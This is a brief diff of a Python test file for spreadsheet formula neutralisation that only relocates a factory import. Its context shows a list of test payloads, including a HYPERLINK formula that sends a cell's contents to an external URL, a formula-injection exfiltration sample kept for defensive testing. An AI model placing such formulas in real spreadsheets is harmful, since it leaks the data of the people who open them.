@@ -12,8 +12,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from guides.tests.factories import GuidePageFactory, SchoolYearFactory, site_tree
+from guides.tests.factories import GuidePageFactory, site_tree
 from kb.spreadsheets import neutralise, restore
+from kb.tests.factories import SchoolYearFactory
 
 PAYLOADS = [
     '=HYPERLINK("https://example.org/?"&A1, "Klikkaa")',
